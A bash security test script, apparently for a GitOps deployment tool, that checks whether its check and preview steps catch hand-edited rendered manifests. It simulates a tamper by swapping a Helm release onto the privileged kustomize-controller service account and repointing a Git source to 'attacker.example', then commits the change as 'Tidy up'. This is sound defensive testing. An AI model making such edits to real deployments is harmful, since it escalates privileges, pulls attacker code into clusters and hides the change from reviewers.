#!/bin/bash
# Hand-edited files in the folder that the root Kustomization deploys are seen by neither check nor preview.
HERE=$(cd "$(dirname "$0")" && pwd); . "$HERE/../lib.sh"
node bin/authority.js render --stack prod --out rendered/prod > /dev/null || exit 2
sed -i 's/serviceAccountName: podinfo/serviceAccountName: kustomize-controller/' rendered/prod/1-manifest/helm*.yaml
sed -i 's#https://github.com/stefanprodan/podinfo#https://attacker.example/podinfo#' rendered/prod/1-manifest/source*-podinfo-6*.yaml
grep -q 'serviceAccountName: kustomize-controller' rendered/prod/1-manifest/helm*.yaml && grep -q attacker.example rendered/prod/1-manifest/source*-podinfo-6*.yaml || cannot_tell "the rendered files could not be edited"
commit "Tidy up"
init; node bin/authority.js check --stack prod > "$T/check" 2>&1; c=$?
preview; p=$?
[ $c = 0 ] && [ $p = 0 ] && { echo "HOLE: check and preview both pass"; exit 1; }
cat "$T/check" | head -5; grep -q "rendered/prod" "$T/check" "$T/log" && { echo closed; exit 0; }; echo "cannot tell:"; tail -5 "$T/log"; exit 2
